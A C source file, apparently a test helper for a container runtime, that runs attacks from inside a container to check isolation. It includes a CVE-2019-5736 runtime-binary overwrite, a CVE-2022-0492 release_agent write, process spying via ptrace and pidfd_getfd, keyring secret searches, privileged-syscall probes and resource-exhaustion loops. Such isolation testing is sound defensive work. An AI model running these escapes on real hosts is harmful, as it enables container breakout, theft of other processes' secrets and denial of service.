/* What an attacker brings in an image: tried from inside containers by the tests of
 * both doors. Compiled statically, so that it runs in an empty root file system.
 *
 * Each part prints what it reached; a container that holds prints nothing of the host. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* ---- system calls by every door -------------------------------------------------- */

struct call {
    const char *name;
    long native, i386; /* -1: there is none */
    unsigned long args[5];
};

/* Arguments that do no harm where a call is open. */
static const struct call CALLS[] = {
    {"acct", 163, 51, {1}},
    {"add_key", 248, 286, {0}},
    {"bpf", 321, 357, {0}},
    {"chroot", 161, 61, {0}},
    {"clock_settime", 227, 264, {0}},
    {"clone(new user)", 56, 120, {0x10000000 | 0x10000}},
    {"clone(new network)", 56, 120, {0x40000000 | 0x10000}},
    {"clone(new cgroup)", 56, 120, {0x02000000 | 0x10000}},
    {"clone3", 435, 435, {0}},
    {"delete_module", 176, 129, {0}},
    {"fanotify_init", 300, 338, {0xffffffff}},
    {"finit_module", 313, 350, {-1}},
    {"fsconfig", 431, 431, {-1}},
    {"fsmount", 432, 432, {-1}},
    {"fsopen", 430, 430, {0}},
    {"fspick", 433, 433, {-1}},
    {"init_module", 175, 128, {0}},
    {"io_uring_enter", 426, 426, {-1}},
    {"io_uring_register", 427, 427, {-1}},
    {"io_uring_setup", 425, 425, {0}},
    {"ioperm", 173, 101, {0, 1, 1}},
    {"iopl", 172, 110, {3}},
    {"kcmp", 312, 349, {1, 1, 99}},
    {"kexec_file_load", 320, -1, {-1, -1}},
    {"kexec_load", 246, 283, {0, 99}},
    {"keyctl", 250, 288, {0, -3, 0}},
    {"lookup_dcookie", 212, 253, {0}},
    {"mbind", 237, 274, {1}},
    {"mount", 165, 21, {0}},
    {"mount_setattr", 442, 442, {-1}},
    {"move_mount", 429, 429, {-1}},
    {"move_pages", 279, 317, {0, 1}},
    {"name_to_handle_at", 303, 341, {-1}},
    {"nfsservctl", 180, 169, {99}},
    {"open_by_handle_at", 304, 342, {-1}},
    {"open_tree", 428, 428, {-1}},
    {"perf_event_open", 298, 336, {0}},
    {"personality(no random addresses)", 135, 136, {0x40000}},
    {"personality(ask)", 135, 136, {0xffffffff}},
    {"pidfd_getfd", 438, 438, {-1}},
    {"pivot_root", 155, 217, {0}},
    {"process_madvise", 440, 440, {-1}},
    {"process_vm_readv", 310, 347, {0}},
    {"ptrace", 101, 26, {99}},
    {"quotactl", 179, 131, {0}},
    {"reboot", 169, 88, {0}},
    {"request_key", 249, 287, {0}},
    {"setdomainname", 171, 121, {0, -1}},
    {"set_mempolicy", 238, 276, {99}},
    {"setns", 308, 346, {-1}},
    {"settimeofday", 164, 79, {1}},
    {"socket(AF_ALG)", 41, 359, {38, 5, 0}},
    {"socket(AF_VSOCK)", 41, 359, {40, 1, 0}},
    {"socket(AF_UNIX)", 41, 359, {1, 1, 0}},
    {"socketcall(socket)", -1, 102, {1, 0}},
    {"swapoff", 168, 115, {0}},
    {"swapon", 167, 87, {0}},
    {"syslog", 103, 103, {10}},
    {"umount2", 166, 52, {0}},
    {"unshare(user)", 272, 310, {0x10000000}},
    {"unshare(mount)", 272, 310, {0x00020000}},
    {"userfaultfd", 323, 374, {0}},
    {"ustat", 136, 62, {0}},
    {"vhangup", 153, 111, {0}},
    {"vm86", -1, 166, {0}},
};

static long by_i386(long number, const unsigned long *a) {
    long answer;
    __asm__ volatile("int $0x80"
                     : "=a"(answer)
                     : "a"(number), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4])
                     : "memory", "r8", "r9", "r10", "r11");
    return answer;
}

/* In a child, which may be killed for it. */
static const char *attempt(const struct call *call, char door) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        const unsigned long *a = call->args;
        long error;
        if (door == 'i') {
            long answer = by_i386(call->i386, a);
            error = answer < 0 ? -answer : 0;
        } else {
            long number = call->native | (door == 'x' ? 0x40000000 : 0);
            error = syscall(number, a[0], a[1], a[2], a[3], a[4]) < 0 ? errno : 0;
        }
        _exit(error == EPERM ? 1 : error == ENOSYS ? 2 : 0);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status))
        return WTERMSIG(status) == SIGSYS ? "killed" : "no door";
    const char *answers[] = {"open", "EPERM", "ENOSYS"};
    return answers[WEXITSTATUS(status) % 3];
}

static int calls(void) {
    for (size_t i = 0; i < sizeof CALLS / sizeof *CALLS; i++) {
        const struct call *call = &CALLS[i];
        if (call->native >= 0)
            printf("native %s: %s\n", call->name, attempt(call, 'n'));
        if (call->native >= 0)
            printf("x32 %s: %s\n", call->name, attempt(call, 'x'));
        if (call->i386 >= 0)
            printf("i386 %s: %s\n", call->name, attempt(call, 'i'));
    }
    return 0;
}

/* ---- other processes ------------------------------------------------------------- */

/* Whether `pid` runs something that is not of the image, told by its program's file;
 * `unseen` where even that may not be looked at. What has ended is nothing any more. */
static int is_foreign(const char *pid, int *unseen) {
    char path[64], exe[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t length = readlink(path, exe, sizeof exe - 1);
    *unseen = length < 0 && errno == EACCES;
    if (length < 0)
        return *unseen;
    exe[length] = 0;
    return strcmp(exe, "/bin/attacker") && strcmp(exe, "/bin/busybox");
}

/* CVE-2019-5736: opens the program of every process that is not the image's, and then
 * tries to write to it while and after it runs. */
static int overwrite(void) {
    puts("looking");
    fflush(stdout);
    for (;;) {
        DIR *dir = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(dir));) {
            int unseen;
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !is_foreign(entry->d_name, &unseen) || unseen)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int held = open(path, O_PATH | O_CLOEXEC);
            if (held < 0)
                continue;
            puts("held");
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            int refused = 0;
            for (int i = 0; i < 3000; i++) {
                int writable = open(path, O_WRONLY | O_CLOEXEC);
                if (writable >= 0) {
                    puts(write(writable, "#!/bin/attacker\n", 16) == 16 ? "WRITTEN" : "opened for writing");
                    close(writable);
                    break;
                }
                refused = errno;
                if (errno != ETXTBSY)
                    break;
                usleep(1000);
            }
            printf("refused: %s\n", strerror(refused));
            fflush(stdout);
            close(held);
        }
        closedir(dir);
    }
}

/* Reaches into every process that is not the image's. */
static int spy(void) {
    puts("looking");
    fflush(stdout);
    for (;;) {
        DIR *dir = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(dir));) {
            int unseen, pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || !is_foreign(entry->d_name, &unseen))
                continue;
            puts(unseen ? "met" : "SEEN");
            char path[64];
            const char *files[] = {"mem", "environ", "fd/3", "root", "cwd", "maps"};
            for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
                int file = open(path, O_RDONLY | O_CLOEXEC);
                char byte;
                /* Files that open for anybody tell only to whom may look. */
                int told = file >= 0 && (i >= 2 && i != 5 ? 1 : read(file, &byte, 1) == 1);
                int still = is_foreign(entry->d_name, &unseen);
                if (told && still && unseen)
                    printf("OPENED %s\n", files[i]);
                if (file >= 0)
                    close(file);
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                int was = is_foreign(entry->d_name, &unseen);
                if (was && unseen)
                    puts("TRACED");
                kill(pid, SIGSTOP);
                waitpid(pid, 0, WUNTRACED);
                ptrace(PTRACE_DETACH, pid, 0, SIGCONT);
            }
            int handle = syscall(434, pid, 0);
            for (int fd = 0; handle >= 0 && fd < 20; fd++) {
                int taken = syscall(438, handle, fd, 0);
                if (taken >= 0) {
                    int was = is_foreign(entry->d_name, &unseen);
                    if (was && unseen)
                        printf("TOOK %d\n", fd);
                    close(taken);
                }
            }
            if (handle >= 0)
                close(handle);
            fflush(stdout);
        }
        closedir(dir);
    }
}

/* ---- files ------------------------------------------------------------------------ */

/* Exchanges two names as fast as it can. */
static int swap(const char *one, const char *other) {
    puts("swapping");
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
            return 1;
}

/* CVE-2022-0492: a cgroup namespace of one's own, and its hierarchies mounted anew. */
static int release_agent(void) {
    const char *kinds[] = {"memory", "rdma", "cpu", "pids", "devices", "freezer", "net_cls", "perf_event"};
    int flags[] = {CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, CLONE_NEWNS | CLONE_NEWCGROUP, CLONE_NEWNS, 0};
    for (size_t f = 0; f < sizeof flags / sizeof *flags; f++) {
        if (fork() == 0) {
            if (flags[f] && unshare(flags[f]) == 0)
                printf("unshared %x\n", flags[f]);
            mkdir("/tmp-cgroup", 0755);
            for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
                char path[128];
                if (mount("cgroup", "/tmp-cgroup", "cgroup", 0, kinds[i]) == 0) {
                    printf("mounted %s\n", kinds[i]);
                    int file = open("/tmp-cgroup/release_agent", O_WRONLY);
                    if (file >= 0 && write(file, "/attack\n", 8) == 8)
                        puts("WRITTEN");
                    umount2("/tmp-cgroup", MNT_DETACH);
                }
                snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", kinds[i]);
                int file = open(path, O_WRONLY);
                if (file >= 0)
                    puts(write(file, "/attack\n", 8) == 8 ? "WRITTEN" : "opened for writing");
            }
            fflush(stdout);
            _exit(0);
        }
        wait(0);
    }
    return 0;
}

/* ---- using things up ------------------------------------------------------------- */

/* Opens `path` until no more is given, says how often, and keeps them. */
static int hoard(const char *path) {
    int count = 0;
    while (open(path, O_RDONLY | O_CLOEXEC) >= 0)
        count++;
    printf("%d, then %s\n", count, strerror(errno));
    fflush(stdout);
    pause();
    return 0;
}

/* As many terminals as are given, in as many processes as it takes. */
static int terminals(void) {
    int total = 0;
    for (;;) {
        int report[2];
        if (pipe(report) < 0)
            break;
        pid_t child = fork();
        if (child == 0) {
            int count = 0, last;
            while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
                count++;
            last = errno;
            dprintf(report[1], "%d %d\n", count, last);
            pause();
        }
        close(report[1]);
        FILE *in = fdopen(report[0], "r");
        int count = 0, last = 0;
        if (child < 0 || fscanf(in, "%d %d", &count, &last) != 2)
            break;
        fclose(in);
        total += count;
        if (last != EMFILE || count == 0)
            break;
    }
    printf("terminals: %d\n", total);
    fflush(stdout);
    pause();
    return 0;
}

/* Empty files, until no more are given. */
static int files(const char *folder) {
    char path[256];
    long count = 0;
    for (;; count++) {
        snprintf(path, sizeof path, "%s/%ld", folder, count);
        int file = open(path, O_CREAT | O_WRONLY, 0644);
        if (file < 0)
            break;
        close(file);
    }
    printf("files: %ld, then %s\n", count, strerror(errno));
    return 0;
}

/* ---- keys ------------------------------------------------------------------------- */

static int put_key(char **arguments) {
    /* A session keyring of its own, so that nothing stays. */
    syscall(SYS_keyctl, 1, 0);
    if (syscall(SYS_add_key, "user", arguments[0], "secret", 6, -3) < 0)
        return 77;
    execvp(arguments[1], arguments + 1);
    return 1;
}

static int find_key(const char *name) {
    for (int ring = -5; ring <= -1; ring++)
        if (syscall(SYS_keyctl, 10, ring, "user", name, 0) >= 0)
            printf("FOUND in %d\n", ring);
    if (syscall(SYS_request_key, "user", name, 0, 0) >= 0)
        puts("FOUND by asking");
    puts("searched");
    return 0;
}

/* ---- what is to be seen ----------------------------------------------------------- */

extern char **environ;

static void show_file(const char *path, const char *const *starts) {
    char line[4096];
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        for (const char *const *start = starts; *start; start++)
            if (!strncmp(line, *start, strlen(*start)))
                printf("%s %s", strrchr(path, '/') + 1, line);
    if (file)
        fclose(file);
}

static void show_devices(const char *folder) {
    DIR *dir = opendir(folder);
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        char path[512];
        struct stat found;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (entry->d_name[0] == '.' || lstat(path, &found) < 0)
            continue;
        unsigned kind = found.st_mode & S_IFMT;
        if (kind == S_IFCHR || kind == S_IFBLK)
            printf("dev %s %c %u:%u %o\n", path, kind == S_IFCHR ? 'c' : 'b', (unsigned)(found.st_rdev >> 8 & 0xfff),
                   (unsigned)(found.st_rdev & 0xff), found.st_mode & 07777);
        else
            printf("dev %s %s\n", path, kind == S_IFDIR ? "directory" : kind == S_IFLNK ? "link" : "file");
        if (kind == S_IFDIR)
            show_devices(path);
    }
    if (dir)
        closedir(dir);
}

/* Files that are meant to be written and can be opened for it. */
static void show_writable(const char *folder, int depth) {
    DIR *dir = opendir(folder);
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        char path[1024];
        struct stat found;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        int number = !strcmp(folder, "/proc") && entry->d_name[0] >= '0' && entry->d_name[0] <= '9';
        if (entry->d_name[0] == '.' || number || lstat(path, &found) < 0)
            continue;
        if (S_ISREG(found.st_mode)) {
            if (!(found.st_mode & 0222))
                continue;
            int file = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (file >= 0) {
                printf("writable %s\n", path);
                close(file);
            }
        } else if (S_ISDIR(found.st_mode) && depth > 0)
            show_writable(path, depth - 1);
    }
    if (dir)
        closedir(dir);
}

static int look(void) {
    char path[64], target[512];
    for (int fd = 0; fd < 4096; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length >= 0)
            printf("fd %d %.*s\n", fd, (int)length, target);
    }
    for (char **variable = environ; *variable; variable++)
        printf("env %s\n", *variable);
    const char *status[] = {"Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp:", "SigIgn", "SigBlk", 0};
    const char *all[] = {"", 0};
    show_file("/proc/self/status", status);
    show_file("/proc/self/oom_score_adj", all);
    show_file("/proc/self/uid_map", all);
    show_file("/proc/self/cgroup", all);
    const char *kinds[] = {"cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"};
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i]);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length >= 0)
            printf("ns %s %.*s\n", kinds[i], (int)length, target);
    }
    show_file("/proc/self/mountinfo", all);
    printf("umask %o\n", umask(022));
    printf("cwd %s\n", getcwd(target, sizeof target) ? target : "none");
    show_devices("/dev");
    show_writable("/proc", 6);
    show_writable("/sys", 6);
    fflush(stdout);
    return 0;
}

int main(int count, char **arguments) {
    const char *what = count > 1 ? arguments[1] : "";
    if (!strcmp(what, "calls"))
        return calls();
    if (!strcmp(what, "look"))
        return look();
    if (!strcmp(what, "overwrite"))
        return overwrite();
    if (!strcmp(what, "spy"))
        return spy();
    if (!strcmp(what, "swap") && count == 4)
        return swap(arguments[2], arguments[3]);
    if (!strcmp(what, "release-agent"))
        return release_agent();
    if (!strcmp(what, "hoard") && count == 3)
        return hoard(arguments[2]);
    if (!strcmp(what, "terminals"))
        return terminals();
    if (!strcmp(what, "files") && count == 3)
        return files(arguments[2]);
    if (!strcmp(what, "put-key") && count > 3)
        return put_key(arguments + 2);
    if (!strcmp(what, "find-key") && count == 3)
        return find_key(arguments[2]);
    if (!strcmp(what, "who"))
        return printf("%d %d\n", getuid(), geteuid()) < 0;
    fprintf(stderr, "attacker: what?\n");
    return 64;
}
